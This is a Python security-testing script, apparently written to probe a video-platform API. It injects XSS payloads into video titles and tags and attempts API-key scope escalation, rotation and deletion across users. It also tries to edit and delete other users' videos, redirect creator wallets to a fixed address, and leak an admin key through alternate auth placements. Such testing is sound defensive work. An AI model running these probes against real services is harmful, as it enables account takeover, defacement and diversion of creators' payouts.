from h import *
# XSS strings into titles etc.; scope escalation; wallet
X='<img src=x onerror=document.title="PWNED"><script>document.title="PWNED"</script>"\'>'
show(r('PATCH','/v1/videos/2','ana-ing',json={'title':'Melon '+X,'description':'melon '+X,'tags':['melon<svg/onload=document.title=1>','javascript:alert(1)']}),250)
for k,body in [('search1',{'name':'x','scopes':['admin']}),('any-ing',{'name':'x','scopes':['ingest'],'creators':'any'}),('cr-ana',{'name':'x','scopes':['creator'],'creator_id':2})]:
  x=r('POST','/v1/keys',k,json=body); print(k,x.status_code,x.text[:120])
for k in ['cr-ana','ana-ing','bruno-ing','search1']:
  x=r('POST','/v1/keys/1/rotate',k); print('rotate',k,x.status_code,x.text[:120])
  x=r('DELETE','/v1/keys/5',k); print('del',k,x.status_code,x.text[:100])
# writes on others
for k in ['bruno-ing','none-ing','cr-bruno','cr-ana','search1']:
  for vid in ('14','13','CKMyEh24QweBp8TqHn3EkQ','KhhItbkMSNC8BiJT_0MNtw','4','999','1'):
    x=r('PATCH','/v1/videos/'+vid,k,json={'title':'hacked'}); y=r('DELETE','/v1/videos/'+vid,k) if k!='cr-ana' else None
    print(k,vid,x.status_code,x.json().get('detail',x.text[:80]),'| DEL',y and (y.status_code,y.json().get('detail')))
W='EiuFUB2G9kRMGLRS1u2n2d3PpMRfyz9cGPqzZg4m3ksk'
for k in ['cr-bruno','ana-ing','any-ing','search1']:
  for c_ in ('1','999','xExuI-hLQ02vG82MkqsxDw'):
    x=r('POST',f'/v1/creators/{c_}/wallet/challenge',k,json={'wallet':'4uQeVj5tqViQh7yWWGStvkEG1Zmhx6uasJtWCJziofM'}); print('chal',k,c_,x.status_code,x.text[:200])
    x=r('PUT',f'/v1/creators/{c_}/wallet',k,json={'wallet':'4uQeVj5tqViQh7yWWGStvkEG1Zmhx6uasJtWCJziofM'}); print('put',k,c_,x.status_code,x.text[:200])
# key in odd places
for p,h in [('/v1/keys?api_key='+K['admin'],{}),('/v1/keys?access_token='+K['admin'],{}),('/v1/keys',{'X-API-Key':K['admin']}),('/v1/keys',{'Cookie':'key='+K['admin']}),('/v1/keys',{'Authorization':'Basic '+K['admin']}),('/v1/keys',{'Authorization':'bearer  '+K['admin']}),('/v1/keys',{'Authorization':'Bearer '+K['search1'],'X-API-Key':K['admin']}),('/v1/keys/'+K['admin'],{}),('/v1/videos/'+K['admin'],{}),('/v1/keys',{'Authorization':'Bearer '+K['admin'][:-1]+'x'})]:
  x=r('GET',p,headers=h); print(p[:30],list(h),x.status_code,x.text[:330],'LEAK' if K['admin'] in x.text else '')
x=r('GET','/v1/search?q=pie'); print('cookie',x.headers.get_list('set-cookie'))
x=r('GET','/'); print('cookie',x.headers.get_list('set-cookie'))
x=r('GET','/v1/feed',headers={'Sec-Fetch-Site':'same-origin','Sec-Fetch-Mode':'cors'}); print('cookie',x.headers.get_list('set-cookie'))
